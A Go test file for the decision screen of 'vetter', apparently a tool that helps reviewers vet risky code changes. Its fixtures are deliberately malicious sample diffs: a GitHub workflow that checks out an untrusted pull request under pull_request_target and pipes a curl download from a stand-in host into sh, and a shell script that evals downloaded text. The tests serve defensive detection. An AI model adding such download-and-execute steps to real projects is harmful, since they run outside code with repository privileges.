package tui

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vetter-dev/vetter/review"
	"github.com/vetter-dev/vetter/tui/internal/screentest"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/vetter-dev/vetter/packet"
	"github.com/vetter-dev/vetter/tui/common"
	"github.com/vetter-dev/vetter/tui/screens/decision"
)

// attentionDiff is a malicious workflow: two high items (the checkout of
// the pull request's head under pull_request_target, and a download piped
// to a shell), the trigger and the file (medium) and the pinned action (low).
const attentionDiff = `diff --git a/.github/workflows/preview.yml b/.github/workflows/preview.yml
new file mode 100644
index 0000000..1234567
--- /dev/null
+++ b/.github/workflows/preview.yml
@@ -0,0 +1,10 @@
+name: preview
+on: pull_request_target
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11
+        with:
+          ref: ${{ github.event.pull_request.head.sha }}
+      - run: curl -fsSL https://x.invalid/preview.sh | sh
`

// newAttentionRoot is the sample packet with attentionDiff as its diff, and
// a store in a temporary state folder.
func newAttentionRoot(t *testing.T) (*Workbench, *decision.Decision) {
	t.Helper()
	return newAttentionRootWith(t, attentionDiff)
}

// newAttentionRootWith is newAttentionRoot with diff as the change.
func newAttentionRootWith(t *testing.T, diff string) (*Workbench, *decision.Decision) {
	t.Helper()
	dir := sampleCopy(t, "p")
	if err := os.WriteFile(filepath.Join(dir, "change.diff"), []byte(diff), 0o644); err != nil {
		t.Fatal(err)
	}
	ctx := storeContext(t, loadCopy(t, dir), time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC))
	r := NewWorkbench(ctx, Options{ForceTheme: "dark"})
	drive(r, r.Init())
	r.Update(tea.WindowSizeMsg{Width: 140, Height: 60})
	pressKeys(r, "7")
	return r, r.screens[common.ScreenDecision].(*decision.Decision)
}

// selectItem puts the cursor on the row of the i-th attention item.
func selectItem(t *testing.T, d *decision.Decision, i int) {
	t.Helper()
	for ri, row := range d.List.Rows {
		if row.Item == i {
			d.List.Scrolling.Cursor = ri
			return
		}
	}
	t.Fatalf("no row for attention item %d", i)
}

func attentionCheck(p *packet.Packet) packet.GateCheck {
	for _, c := range review.Gate(p).Checks {
		if c.Name == review.CheckAttentionReviewed {
			return c
		}
	}
	return packet.GateCheck{}
}

func TestDecisionMarksReviewed(t *testing.T) { screentest.InBubble(t, testDecisionMarksReviewed) }

func testDecisionMarksReviewed(t *testing.T) {
	r, d := newAttentionRoot(t)
	if c := attentionCheck(r.ctx.Packet); c.Detail != "0 of 2 high items reviewed" || c.OK {
		t.Fatalf("before: %+v", c)
	}
	s := ansi.Strip(r.Render())
	for _, want := range []string{"What a vetter must look at (5; 0 of 2 high reviewed)", "gha-untrusted-checkout",
		"> ref: ${{ github.event.pull_request.head.sha }}", "why: on pull_request_target"} {
		if !strings.Contains(s, want) {
			t.Errorf("screen lacks %q:\n%s", want, s)
		}
	}

	selectItem(t, d, 0)
	pressKeys(r, "space")
	if c := attentionCheck(r.ctx.Packet); c.Detail != "1 of 2 high items reviewed" {
		t.Errorf("after space: %+v", c)
	}
	if !strings.Contains(ansi.Strip(r.Render()), "[✓]") {
		t.Errorf("no reviewed box on screen:\n%s", ansi.Strip(r.Render()))
	}
	// The mark is the reviewer's, saved beside the triage: a fresh read sees it.
	marks, err := r.ctx.Store.ReadReviewed()
	if err != nil || len(marks) != 1 {
		t.Fatalf("reviewed.json holds %d marks (%v), want 1", len(marks), err)
	}
	for _, m := range marks {
		if m.User != "tester" || m.Rule == "" {
			t.Errorf("mark %+v", m)
		}
	}
	// space again unmarks.
	selectItem(t, d, 0)
	pressKeys(r, "space")
	if c := attentionCheck(r.ctx.Packet); c.Detail != "0 of 2 high items reviewed" {
		t.Errorf("after the second space: %+v", c)
	}
}

func TestDecisionOkToTestConfirmsUnreviewed(t *testing.T) {
	screentest.InBubble(t, testDecisionOkToTestConfirmsUnreviewed)
}

func testDecisionOkToTestConfirmsUnreviewed(t *testing.T) {
	r, d := newAttentionRoot(t)

	// O with unreviewed high items asks; any other key cancels.
	pressKeys(r, "O")
	if !d.Capturing() || r.prompt != nil {
		t.Fatalf("O: confirming %v, prompt %v; want a confirmation first", d.Capturing(), r.prompt != nil)
	}
	if s := ansi.Strip(r.Render()); !strings.Contains(s, "2 of 2 high items are not marked reviewed") {
		t.Errorf("no confirmation on screen:\n%s", s)
	}
	pressKeys(r, "j")
	if d.Capturing() || r.prompt != nil {
		t.Fatalf("another key did not cancel: confirming %v, prompt %v", d.Capturing(), r.prompt != nil)
	}

	// O, O goes on to the decision's prompt.
	pressKeys(r, "O", "O")
	if d.Capturing() || r.prompt == nil {
		t.Fatalf("O O: confirming %v, prompt %v; want the decision prompt", d.Capturing(), r.prompt != nil)
	}
	pressKeys(r, "esc")

	// With every high item reviewed, O goes straight to the prompt.
	for i, a := range d.Attention() {
		if a.Severity == packet.AttentionHigh {
			selectItem(t, d, i)
			pressKeys(r, "space")
		}
	}
	if c := attentionCheck(r.ctx.Packet); !c.OK || c.Detail != "2 of 2 high items reviewed" {
		t.Fatalf("after marking both: %+v", c)
	}
	pressKeys(r, "O")
	if d.Capturing() || r.prompt == nil {
		t.Errorf("O with everything reviewed: confirming %v, prompt %v", d.Capturing(), r.prompt != nil)
	}
}

func TestDecisionShowsWhereDataCameFrom(t *testing.T) {
	screentest.InBubble(t, testDecisionShowsWhereDataCameFrom)
}

// An item found by following data names the line the data came from, on a
// row of its own that leads to that line of the diff.
func testDecisionShowsWhereDataCameFrom(t *testing.T) {
	diff := "diff --git a/scripts/boot.sh b/scripts/boot.sh\nnew file mode 100644\n--- /dev/null\n+++ b/scripts/boot.sh\n@@ -0,0 +1,4 @@\n" +
		"+#!/bin/sh\n+S=$(curl -s https://x.invalid/s)\n+echo fetched\n+eval \"$S\"\n"
	r, d := newAttentionRootWith(t, diff)
	s := ansi.Strip(r.Render())
	for _, want := range []string{"runs what line 2 downloaded", "scripts/boot.sh:4", "data from line 2: S=$(curl -s https://x.invalid/s)"} {
		if !strings.Contains(s, want) {
			t.Errorf("screen lacks %q:\n%s", want, s)
		}
	}
	for _, row := range d.List.Rows {
		if strings.Contains(ansi.Strip(row.Text), "data from line 2") {
			if row.Target == nil || row.Target.Line != 2 || row.Target.Path != "scripts/boot.sh" {
				t.Errorf("the source row leads to %+v, want scripts/boot.sh line 2", row.Target)
			}
			return
		}
	}
	t.Errorf("no source row")
}
